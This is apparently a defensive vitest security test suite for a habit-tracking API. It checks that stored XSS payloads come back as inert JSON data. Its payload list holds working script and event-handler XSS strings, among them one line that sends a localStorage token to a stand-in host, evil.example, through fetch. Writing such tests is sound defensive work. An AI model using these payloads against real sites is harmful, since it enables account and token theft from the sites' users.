// §5.1 XSS and content sniffing: script, event-handler and javascript: payloads stored in every
// free-text field (display_name, full_name, bio, habit name and description, challenge name and
// description, check-in caption) come back byte-identical inside JSON, as
// `application/json; charset=utf-8` with nosniff — data, never markup. And no route answers
// text/html except the docs page, whose CSP forbids inline script (headers.test.ts).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSecurityApp, label, type SecurityApp } from './helpers.js';
import { buildWorld, HABIT_WATER, send, TODAY, type World } from './world.js';

export const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  'javascript:alert(1)',
  '"><svg onload=alert(1)>',
  "</script><script>fetch('//evil.example/'+localStorage.token)</script>",
  '<a href="javascript:alert(1)">tap</a>',
  "'';!--\"<XSS>=&{()}",
  '{{constructor.constructor("alert(1)")()}}',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<body onload=alert(1)> \\u003cscript\\u003e',
];

let t: SecurityApp;
let w: World;
beforeAll(async () => {
  t = await createSecurityApp();
  w = await buildWorld(t);
}, 120_000);
afterAll(async () => {
  t.expectNoSecretsLogged();
  await t.close();
});

type Json = Record<string, unknown>;

async function expectJsonCarrying(url: string, headers: Record<string, string>, payload: string, where: string) {
  const res = await send(t, { method: 'GET', url, headers });
  expect(res.statusCode, `${where}: GET ${url}`).toBe(200);
  expect(res.headers['content-type'], where).toBe('application/json; charset=utf-8');
  expect(res.headers['x-content-type-options'], where).toBe('nosniff');
  // The exact JSON encoding of the stored string is in the body: byte-identical, not HTML-escaped,
  // not stripped — and only as a JSON string (the raw payload never appears unquoted).
  expect(res.body, `${where}: ${url}`).toContain(JSON.stringify(payload));
  return res.json<Json>();
}

describe('stored XSS payloads come back as JSON data, byte-identical', () => {
  it('profile fields: display_name, full_name, bio (own profile, a member\'s view, search, member list)', async () => {
    for (const payload of XSS_PAYLOADS) {
      const patch = await send(t, {
        method: 'PATCH',
        url: '/api/v1/users/me',
        headers: w.owner.auth,
        payload: { display_name: payload.slice(0, 50).trim(), full_name: payload, bio: payload },
      });
      expect(patch.statusCode, payload).toBe(200);
      const name = payload.slice(0, 50).trim();
      const me = await expectJsonCarrying('/api/v1/users/me', w.owner.auth, payload, 'own profile');
      expect(me).toMatchObject({ display_name: name, full_name: payload, bio: payload });
      const seen = await expectJsonCarrying(`/api/v1/users/${w.owner.id}`, w.other.auth, payload, 'public profile');
      expect(seen).toMatchObject({ display_name: name, bio: payload });
      await expectJsonCarrying(`/api/v1/challenges/${w.challenge.id}/members`, w.other.auth, name, 'member list');
      if (name.trim().length >= 2) {
        await expectJsonCarrying(`/api/v1/users/search?q=${encodeURIComponent(name.slice(0, 20))}`, w.other.auth, name, 'search');
      }
    }
  });

  it('habit name and description, challenge name and description, check-in caption', async () => {
    for (const payload of XSS_PAYLOADS) {
      const habit = await send(t, { method: 'POST', url: '/api/v1/habits', headers: w.owner.auth, payload: { name: payload.slice(0, 60), description: payload } });
      expect(habit.statusCode, payload).toBe(201);
      const habits = await expectJsonCarrying('/api/v1/habits?limit=100', w.owner.auth, payload, 'habit list');
      expect((habits.items as Json[]).some((h) => h.name === payload.slice(0, 60) && h.description === payload)).toBe(true);

      const challenge = await send(t, {
        method: 'POST',
        url: '/api/v1/challenges',
        headers: w.owner.auth,
        payload: { name: `xss ${payload}`.slice(0, 100), description: payload, type: 'group', start_date: TODAY, end_date: '2026-07-01', habit_ids: [HABIT_WATER], checkin_type: 'any' },
      });
      expect(challenge.statusCode, payload).toBe(201);
      const id = challenge.json<{ id: string }>().id;
      const got = await expectJsonCarrying(`/api/v1/challenges/${id}`, w.owner.auth, payload, 'challenge');
      expect(got).toMatchObject({ name: `xss ${payload}`.slice(0, 100), description: payload });

      const checkin = await send(t, { method: 'POST', url: '/api/v1/checkins', headers: w.owner.auth, payload: { challenge_id: id, habit_id: HABIT_WATER, caption: payload } });
      expect(checkin.statusCode, payload).toBe(201);
      await expectJsonCarrying(`/api/v1/challenges/${id}/checkins`, w.owner.auth, payload, 'challenge feed');
      await expectJsonCarrying(`/api/v1/checkins?challenge_id=${id}`, w.owner.auth, payload, 'my check-ins');
    }
  });

  it('a payload in the URL is not reflected as markup either (404 problem+json)', async () => {
    const res = await t.app.inject({ url: `/${encodeURIComponent('<script>alert(1)</script>')}`, headers: w.owner.auth });
    expect(res.statusCode).toBe(404);
    expect(res.headers['content-type']).toBe('application/problem+json; charset=utf-8');
    expect(res.body).not.toContain('<script>');
  });
});

describe('content types', () => {
  it('no route answers text/html except the docs page; everything else is JSON (or the bytes and formats it documents)', async () => {
    const offenders: string[] = [];
    let html = 0;
    for (const r of t.routes) {
      if (r.method !== 'GET') continue;
      const url = r.url === '/media/files/:id' && w.mediaUrl ? w.mediaUrl : r.url.replace(/:[a-z_]+/g, w.challenge.id).replace('*', 'swagger-ui.css');
      for (const headers of [{}, w.owner.auth]) {
        const res = await t.app.inject({ url, headers });
        const type = String(res.headers['content-type'] ?? '');
        if (type.startsWith('text/html')) {
          html++;
          if (!r.url.startsWith('/docs')) offenders.push(`${label(r)}: ${type}`);
          continue;
        }
        const allowed =
          /^application\/(problem\+)?json; charset=utf-8$/.test(type) ||
          (r.url.startsWith('/docs') && /^(application\/javascript|text\/css|image\/|application\/json|application\/x-yaml|text\/plain)/.test(type)) ||
          (r.url === '/metrics' && type.startsWith('text/plain')) ||
          (r.url === '/media/files/:id' && /^(image|video)\//.test(type)) ||
          (res.statusCode >= 300 && res.statusCode < 400) ||
          res.body === '';
        if (!allowed) offenders.push(`${label(r)} → ${res.statusCode}: ${type}`);
      }
    }
    expect(offenders).toEqual([]);
    expect(html).toBeGreaterThan(0); // the docs page itself was reached
  });
});
